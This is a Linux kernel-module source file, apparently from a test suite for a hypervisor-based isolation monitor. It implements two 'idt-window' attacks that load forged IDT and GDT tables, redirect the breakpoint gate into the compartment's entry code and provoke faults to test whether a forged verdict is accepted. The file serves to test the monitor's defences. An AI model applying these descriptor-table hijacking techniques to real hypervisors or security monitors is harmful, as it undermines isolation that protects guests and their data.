// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * IDT and GDT of the attacker's in guest RAM, at the addresses at which the window shows them in view 2.  There an
 * exception that the host does not intercept finds them, and with them code of the compartment to go on at: the
 * end of the entry, with the verdict that was in EDX.  In view 0 page tables of the attacker's show them at the
 * same addresses, so the guest goes on meanwhile.
 */

#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/irqflags.h>
#include <linux/mm.h>
#include <linux/string.h>
#include <asm/desc.h>
#include <asm/nospec-branch.h>
#include <asm/trapnr.h>

#include "attack.h"
#include "gate_offsets.h"

#define TABLES_ORDER 1
#define ENTRY_RSP \
	0x46         /* in the compartment's entry: RSP is made the guest's, then out by the gate */
#define FAULT_INT3 6 /* monitors/lab_faults */
#define FORGED     77 /* the error number of the verdict */

struct window {
	struct tables tables;
	u8 *pages; /* IDT, GDT */
	struct desc_ptr idt, gdt;
	u64 cr3;
};

static void window_destroy(struct window *w)
{
	free_pages((unsigned long)w->pages, TABLES_ORDER);
	tables_destroy(&w->tables);
}

static unsigned long in_window(const struct window *w, unsigned int page)
{
	return SM_WINDOW_VA + virt_to_phys(w->pages) + page * PAGE_SIZE;
}

static void lead_to(gate_desc *gate, unsigned long address)
{
	gate->offset_low = (u16)address;
	gate->offset_middle = (u16)(address >> 16);
	gate->offset_high = (u32)(address >> 32);
	gate->bits.ist = 0;
}

static int window_create(struct window *w)
{
	unsigned int i;
	int err;

	*w = (struct window){};
	err = tables_create(&w->tables);
	w->pages = (u8 *)__get_free_pages(GFP_KERNEL | __GFP_ZERO, TABLES_ORDER);
	if (err || !w->pages) {
		window_destroy(w);
		return -ENOMEM;
	}
	for (i = 0; i < 1 << TABLES_ORDER && !err; i++)
		err = tables_map(&w->tables, in_window(w, i),
				 virt_to_phys(w->pages) + i * PAGE_SIZE);
	if (err)
		window_destroy(w);
	return err;
}

/* A page that no monitor has read is not in the window yet: as arguments of forged events, each reads it. */
static void bring_into_window(const struct window *w)
{
	struct jump jump = {
		.rip = (u64)gate + GATE_ENTER_OFFSET,
		.fill = (u64)w->pages,
		.late_cr3 = (u64)w->pages,
	};

	for (jump.slot = 0; jump.slot < SM_SLOTS; jump.slot++)
		run_jump(&jump);
}

/* With interrupts off.  Is the attacker's IDT the CPU's now? */
static bool load_tables(struct window *w)
{
	struct desc_ptr idt, gdt;

	store_idt(&w->idt);
	native_store_gdt(&w->gdt);
	memcpy(w->pages, (void *)w->idt.address, w->idt.size + 1);
	memcpy(w->pages + PAGE_SIZE, (void *)w->gdt.address, w->gdt.size + 1);
	lead_to((gate_desc *)w->pages + X86_TRAP_BP, (u64)gate + SM_VA_ENTRY + ENTRY_RSP);
	w->cr3 = __read_cr3();
	native_write_cr3(tables_cr3(&w->tables));
	idt = (struct desc_ptr){.size = w->idt.size, .address = in_window(w, 0)};
	gdt = (struct desc_ptr){.size = w->gdt.size, .address = in_window(w, 1)};
	native_load_idt(&idt);
	native_load_gdt(&gdt);
	store_idt(&idt);
	return idt.address == in_window(w, 0);
}

static void restore_tables(const struct window *w)
{
	native_load_gdt(&w->gdt);
	native_load_idt(&w->idt);
	native_write_cr3(w->cr3);
}

/* A monitor that faults.  What the hooked function returns: -FORGED if the attacker's handler ran. */
static long provoke(void *function)
{
	register unsigned long what asm("rdi") = FAULT_INT3;
	register unsigned long argument asm("rsi") = 0;
	register unsigned long verdict asm("rdx") = FORGED;
	long ret;

	/* The compartment's RBX is lost with the monitor's stack. */
	asm volatile(ANNOTATE_RETPOLINE_SAFE "call *%[function]"
		     : "=a"(ret), "+r"(what), "+r"(argument), "+r"(verdict)
		     : [function] "r"(function)
		     : "rbx", "rcx", "r8", "r9", "r10", "r11", "memory", "cc");
	return ret;
}

static enum outcome fault_in_monitor(void)
{
	void *function = attack_symbol("shadowmon_provoke");
	unsigned long flags;
	struct window w;
	bool loaded;
	long ret;

	if (!function || window_create(&w))
		return ATTACK_IMPOSSIBLE;
	bring_into_window(&w);
	local_irq_save(flags);
	loaded = load_tables(&w);
	ret = provoke(function);
	restore_tables(&w);
	local_irq_restore(flags);
	window_destroy(&w);
	attack_note("tables loaded: %d, the hooked function returned %ld", loaded, ret);
	return !loaded && ret == FAULT_INT3 ? ATTACK_REFUSED : ATTACK_SUCCEEDED;
}

/* View 1 has no window. */
static enum outcome fault_in_gate(void)
{
	enum landing landing;
	unsigned long flags;
	struct window w;
	bool loaded;

	if (window_create(&w))
		return ATTACK_IMPOSSIBLE;
	local_irq_save(flags);
	loaded = load_tables(&w);
	landing = run_vmfunc(0, SM_VIEW_GATE);
	restore_tables(&w);
	local_irq_restore(flags);
	window_destroy(&w);
	attack_note("tables loaded: %d", loaded);
	return landing == LANDED_UD ? ATTACK_REFUSED : ATTACK_SUCCEEDED;
}

const struct attack window_attacks[] = {
	{"idt-window", fault_in_monitor}, {"idt-window-gate", fault_in_gate}, {}};
